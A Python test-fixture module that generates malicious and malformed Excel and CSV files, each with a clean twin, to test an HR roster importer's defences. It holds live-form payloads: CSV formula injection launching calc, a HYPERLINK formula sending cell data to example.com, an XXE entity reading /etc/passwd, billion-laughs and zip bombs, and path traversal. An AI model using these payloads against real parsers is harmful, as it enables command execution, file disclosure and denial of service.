"""Files of people that mean harm or were made carelessly, each with the place of its fault and a good twin.

Nothing is kept in the repository: each is built when it is asked for. `planned`: the fault shows only when the table
is understood as people, not when it is read.
"""

from collections.abc import Callable
from dataclasses import dataclass
from datetime import date
from functools import cache

from app.kit.sheets import letters
from tests import sheet_files as files
from tests.sheet_files import (
    BOOK,
    DAY,
    HEAD,
    SHEET,
    STRINGS,
    bombed,
    compound,
    csv,
    edited,
    swapped,
    team,
    with_cell,
    xlsx,
)

Make = Callable[[], bytes]
ROWS = team()
MILLION = 1_000_000


@dataclass(frozen=True)
class Hostile:
    """`row` 0: the whole file is at fault. `good`: the twin, which must be taken."""

    about: str
    name: str
    bad: Make
    good: Make
    row: int = 0
    column: str = ""
    planned: bool = False

    def data(self) -> bytes:
        """What is to be refused; made once."""
        return _made(self.bad)

    def twin(self) -> bytes:
        return _made(self.good)


@cache
def _made(make: Make) -> bytes:
    return make()


def good() -> bytes:
    return xlsx(ROWS)


def good_csv() -> bytes:
    return csv(ROWS)


def _formula(book: object, page: object) -> None:
    page.write_formula(4, 2, '=HYPERLINK("http://example.com/"&A1)', value="渠道部")  # type: ignore[attr-defined]


def _error() -> bytes:
    return xlsx(ROWS, lambda book, page: page.write_formula(7, 4, "=NA()", value="#N/A"))


def _merge(top: int, left: int, bottom: int, right: int) -> Make:
    def fill(book: object, page: object) -> None:
        value = ROWS[top][left] if top < len(ROWS) else "小计"
        page.merge_range(top, left, bottom, right, value, book.add_format())  # type: ignore[attr-defined]

    return lambda: xlsx(ROWS, fill)


def _title(book: object, page: object) -> None:
    page.merge_range("A1:F1", "员工花名册", book.add_format({"bold": True}))  # type: ignore[attr-defined]


def _doctype(entity: str) -> files.Change:
    return lambda body: body.replace(b"?>", f"?>\n<!DOCTYPE x [{entity}]>".encode(), 1).replace(
        "同事901".encode(), b"&e;", 1
    )


def _laughs() -> str:
    lines = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!ENTITY e0 "ha">{lines}<!ENTITY e "&e9;">'


def _cell(row: int, column: str, value: object, people: int = 8) -> Make:
    return lambda: xlsx(with_cell(team(people), row, column, value))


def _csv_cell(row: int, column: str, value: object, encoding: str = "utf-8") -> Make:
    return lambda: csv(with_cell(ROWS, row, column, value), encoding)


def _escape(written: str) -> Make:
    """A character that XML lacks, as Excel writes it."""
    return lambda: edited(xlsx(with_cell(ROWS, 5, "B", "同ZZ事")), {STRINGS: swapped("ZZ", written)})


def _mixed() -> bytes:
    return csv(ROWS[:5]) + csv([["00977", "郑秀英", "渠道部", "00901", DAY]], "gbk")


def _wide() -> bytes:
    return ",".join(HEAD).encode() + b"," * MILLION + b"x\r\n" + csv(ROWS[1:])


def _nested() -> bytes:
    deep = "<x>" * 60_000 + "</x>" * 60_000
    return edited(good(), {SHEET: swapped("</sheetData>", f"</sheetData>{deep}")})


def _swollen() -> bytes:
    return edited(good(), {SHEET: swapped("<sheetData>", f'<sheetData a="{"x" * 40_000_000}">')})


def _links() -> bytes:
    link = b'<externalLink><externalBook r:id="rId1"/></externalLink>'
    return edited(good(), {}, [("xl/externalLinks/externalLink1.xml", link)])


def _linked_to_people() -> bytes:
    """Addresses that can be clicked lead nowhere while the file is read."""
    return xlsx(ROWS, lambda book, page: page.write_url(2, 5, "mailto:p902@example.com", string="p902@example.com"))


def _twice_the_sheet() -> bytes:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return edited(good(), {}, [(SHEET, b"<worksheet/>")])


def _many(people: int, last: object = DAY) -> Make:
    return lambda: xlsx(with_cell(team(people), people + 1, "E", last))


def _circle() -> bytes:
    rows = with_cell(with_cell(ROWS, 2, "D", "00903"), 3, "D", "00901")
    return xlsx(with_cell(rows, 4, "D", "00902"))


FILES = (
    Hostile("a formula", "a.xlsx", lambda: xlsx(ROWS, _formula), good, 5, "C"),
    Hostile("a formula in CSV", "a.csv", _csv_cell(4, "B", "=cmd|'/C calc'!A0"), _csv_cell(4, "A", '="00903"'), 4, "B"),
    Hostile("a formula begun full width", "a.csv", _csv_cell(6, "F", "＝1+1"), _csv_cell(6, "F", "'＝"), 6, "F"),
    Hostile("a formula shared from afar", "a.xlsx",
            lambda: edited(good(), {SHEET: swapped('<c r="D9" t="s">', '<c r="D9" t="s"><f t="shared" si="0"/>')}),
            good, 9, "D"),
    Hostile("an error", "a.xlsx", _error, good, 8, "E"),
    Hostile("zip bomb", "a.xlsx", lambda: bombed(200), lambda: xlsx(team(300))),
    Hostile("zip bomb within what is allowed", "a.xlsx", lambda: bombed(48), lambda: xlsx(team(300))),
    Hostile("zip bomb that says it is small", "a.xlsx", lambda: bombed(48, declared=4_000), good),
    Hostile("zip part that says it is empty", "a.xlsx", lambda: files.lying(good(), SHEET, 0), good),
    Hostile("zip part that says it is huge", "a.xlsx", lambda: files.lying(good(), STRINGS, 2**32 - 2), good),
    Hostile("a million columns", "a.csv", _wide, good_csv, 1, letters(MILLION + len(HEAD) - 1)),
    Hostile("a cell in Excel's last column", "a.xlsx",
            lambda: xlsx(ROWS, lambda book, page: page.write_string(3, 16_383, "x")), good, 4, "XFD"),
    Hostile("a cell beyond Excel's last column", "a.xlsx",
            lambda: edited(good(), {SHEET: swapped('<c r="F3"', '<c r="ALMQC3"')}), good),
    Hostile("more rows than allowed", "a.csv", lambda: good_csv() + b"1,x\r\n" * 150_000,
            lambda: good_csv() + b",,,,,\r\n" * 150_000, 100_002),
    Hostile("merged headings", "a.xlsx", _merge(0, 1, 0, 2), lambda: xlsx([[None] * 6, *ROWS], _title), 1, "B"),
    Hostile("merged cells in rows", "a.xlsx", _merge(5, 2, 7, 2), good, 6, "C"),
    Hostile("two encodings", "a.csv", _mixed, lambda: csv(ROWS, "gbk"), 6, "B"),
    Hostile("an encoding without end", "a.csv", lambda: csv(ROWS, "gb18030")[:-40] + b"\xff\xff,\r\n",
            lambda: csv(ROWS, "utf-16"), 9, "C"),
    Hostile("NUL bytes", "a.csv", _csv_cell(5, "B", "同\0事"), _csv_cell(5, "B", "同事"), 5, "B"),
    Hostile("NUL written out", "a.xlsx", _escape("_x0000_"), _escape("_x4E8B_"), 5, "B"),
    Hostile("a name written backwards", "a.xlsx", _cell(5, "B", "同\u202e事"), _cell(5, "B", "同\u3000事"), 5, "B"),
    Hostile("external entity", "a.xlsx",
            lambda: edited(good(), {STRINGS: _doctype('<!ENTITY e SYSTEM "file:///etc/passwd">')}), good),
    Hostile("a billion laughs", "a.xlsx", lambda: edited(good(), {STRINGS: _doctype(_laughs())}), good),
    Hostile("links to other workbooks", "a.xlsx", _links, _linked_to_people),
    Hostile("macros", "a.xlsm", lambda: edited(good(), {}, [("xl/vbaProject.bin", b"\0")]), good),
    Hostile("locked by a password", "a.xlsx", lambda: compound("EncryptionInfo", "EncryptedPackage"), good),
    Hostile("parts locked by a password", "a.xlsx", lambda: files.flagged(good()), good),
    Hostile("XLS that calls itself XLSX", "a.xlsx", lambda: compound("Workbook"), good),
    Hostile("a web page that calls itself XLS", "a.xls", lambda: b"<html><table><tr><td>1</td></tr></table>", good_csv),
    Hostile("a picture that calls itself XLSX", "a.xlsx", lambda: b"\x89PNG\r\n\x1a\n" + bytes(99), good),
    Hostile("cut off", "a.xlsx", lambda: good()[: len(good()) * 2 // 3], good),
    Hostile("a part that begins before the file", "a.xlsx", lambda: files.misplaced(good()), good),
    Hostile("packed by a method that takes any memory", "a.xlsx", lambda: files.repacked(good()), good),
    Hostile("one byte turned", "a.xlsx", lambda: _turned(good()), good),
    Hostile("a quotation that does not end", "a.csv", _csv_cell(4, "C", '"渠道部'), _csv_cell(4, "C", '"渠道部"'),
            4, "C"),
    Hostile("a part twice there", "a.xlsx", _twice_the_sheet, good),
    Hostile("a cell that lies about its place", "a.xlsx",
            lambda: edited(good(), {SHEET: swapped('r="B4"', 'r="B7"')}), good),
    Hostile("a text that is not there", "a.xlsx",
            lambda: edited(good(), {SHEET: swapped("<v>0</v>", "<v>999</v>")}), good),
    Hostile("elements without end", "a.xlsx", _nested, good),
    Hostile("an attribute without end", "a.xlsx", _swollen, good),
    Hostile("a sheet elsewhere", "a.xlsx",
            lambda: edited(good(), {"xl/_rels/workbook.xml.rels": swapped("worksheets/sheet1", "../../../etc/sheet1")}),
            lambda: edited(good(), {BOOK: swapped("花名册", "名册 &amp; 2")})),
    Hostile("the same heading twice", "a.xlsx", _cell(1, "F", "工号"), _cell(1, "F", "电话"), 1, "F"),
    Hostile("a cell beyond the headings", "a.csv", lambda: good_csv() + b"00950,x,y,00901,2024-01-01,z,w\r\n",
            lambda: good_csv() + b"00950,x,y,00901,2024-01-01,z,\r\n", 10, "G"),
    Hostile("a number that lost its digits", "a.xlsx", _cell(6, "A", 310115199001011234.0), _cell(6, "A", 905), 6, "A"),
    Hostile("a text too long", "a.csv", _csv_cell(3, "B", "长" * 3_000), _csv_cell(3, "B", "长" * 200), 3, "B"),
    Hostile("nothing", "a.csv", lambda: b"\xef\xbb\xbf\r\n  \r\n", good_csv),
    Hostile("a number twice", "a.xlsx", _cell(7, "A", "00902"), _cell(7, "A", "00999"), 7, "A", True),
    Hostile("a number twice, once full width", "a.csv", _csv_cell(7, "A", "００９０２"),
            _csv_cell(7, "A", "００９９９"), 7, "A", True),
    Hostile("managers in a circle", "a.xlsx", _circle, lambda: xlsx(with_cell(ROWS, 3, "D", "00903")), 2, "D", True),
    Hostile("her own manager", "a.xlsx", _cell(5, "D", "00904"), _cell(5, "D", "00903"), 5, "D", True),
    Hostile("a manager who is nobody", "a.csv", _csv_cell(8, "D", "99999"), _csv_cell(8, "D", "00902"), 8, "D", True),
    Hostile("a day that never was", "a.xlsx", _cell(6, "E", "2026-02-30"), _cell(6, "E", "2026年2月28日"),
            6, "E", True),
    Hostile("a day that may be two", "a.csv", _csv_cell(6, "E", "soon"), _csv_cell(6, "E", "20260228"), 6, "E", True),
    Hostile("nobody's name", "a.xlsx", _cell(4, "B", None), _cell(4, "B", "甲"), 4, "B", True),
    Hostile("a fault in the last of 5,000 rows", "a.xlsx", _many(5_000, "32.13.2026"), _many(5_000, 46349), 5_001, "E",
            True),
)  # fmt: skip


def _turned(data: bytes) -> bytes:
    """One byte in the middle of the packed sheet."""
    at = data.index(SHEET.encode()) + 200
    return data[:at] + bytes([data[at] ^ 0x55]) + data[at + 1 :]


DAYS = (
    ("2026-11-23", date(2026, 11, 23)),
    ("2026/11/23", date(2026, 11, 23)),
    ("2026/1/3", date(2026, 1, 3)),
    ("2026.11.23", date(2026, 11, 23)),
    ("2026年11月23日", date(2026, 11, 23)),
    ("２０２６年１１月２３日", date(2026, 11, 23)),
    ("20261123", date(2026, 11, 23)),
    ("46349", date(2026, 11, 23)),
    ("2026-11-23 00:00:00", date(2026, 11, 23)),
)
"""A day in every form in which HR systems write it."""
